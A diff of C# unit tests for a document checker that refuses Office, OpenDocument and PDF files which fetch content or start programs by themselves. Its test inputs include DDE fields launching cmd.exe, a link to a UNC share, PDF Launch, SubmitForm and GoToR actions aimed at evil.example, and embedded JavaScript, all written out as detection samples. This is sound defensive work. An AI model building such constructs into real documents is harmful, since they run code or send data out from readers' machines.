@@ -161,6 +161,7 @@ public sealed class DocumentTypeTests
     [InlineData("frame", "mhtml:http://evil.example/x", "External", "fetches a template")]
     [InlineData("oleObject", "embeddings/oleObject1.bin", "Internal", "has other files or programs")]
     [InlineData("oleObject", "http://evil.example/x.html!", "External", "has other files or programs")]
+    [InlineData("aFChunk", "afchunk.html", "Internal", "has other files or programs")]
     [InlineData("package", "embeddings/Book1.xlsm", "Internal", "has other files or programs")]
     [InlineData("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", "Internal", null)]
     [InlineData("hyperlink", "https://www.gov.uk/guidance", "External", null)]
@@ -177,6 +178,9 @@ public sealed class DocumentTypeTests
     [InlineData("DDEAUTO c:\\windows\\system32\\cmd.exe", false)]
     [InlineData(" dde  excel x", false)]
     [InlineData(" INCLUDEPICTURE \"http://evil.example/x.png\"", false)]
+    [InlineData(" LINK Excel.Sheet.12 \"\\\\evil\\x.xlsx\" \\a", false)]
+    [InlineData(" QUOTE 68 68 69 65 85 84 79 ", false)]
+    [InlineData(" QUOTE \"a saying\" ", true)]
     [InlineData(" HYPERLINK \"http://www.gov.uk\" ", true)]
     [InlineData(" PAGE ", true)]
     [InlineData(" DATE \\@ \"dd/MM/yyyy\" ", true)]
@@ -208,6 +212,7 @@ public sealed class DocumentTypeTests
     [InlineData("<text:a xlink:href=\"http://www.gov.uk\">link</text:a>", null)]
     [InlineData("<draw:object-ole xlink:href=\"./Object 1\"/>", "has other files or programs")]
     [InlineData("<script:event-listener/>", "has fields that start")]
+    [InlineData("<text:dde-connection-decl/>", "has fields that start")]
     public async Task What_a_text_document_would_fetch_or_start_by_itself_is_refused(string element, string? why)
     {
         var content = $"""<d xmlns:draw="draw" xmlns:text="text" xmlns:script="script" xmlns:xlink="http://www.w3.org/1999/xlink">{element}</d>""";
@@ -221,7 +226,12 @@ public sealed class DocumentTypeTests
     [InlineData("3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
     [InlineData("3 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj", "has programs")]
     [InlineData("3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /S /GoToR /F (//evil.example/x.pdf) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj", "has programs")]
+    [InlineData("3 0 obj\n<< /XFA [(template) 4 0 R] >>\nendobj", "has programs")]
     [InlineData("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj", "has other files")]
+    [InlineData("3 0 obj\n<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>\nendobj", "has other files")]
     [InlineData("3 0 obj\n<< /OpenAction [1 0 R /Fit] >>\nendobj", null)]
     [InlineData("3 0 obj\n<< /S /URI /URI (https://www.gov.uk) >>\nendobj", null)]
     public async Task A_PDF_with_programs_or_files_in_it_is_refused(string addition, string? why)
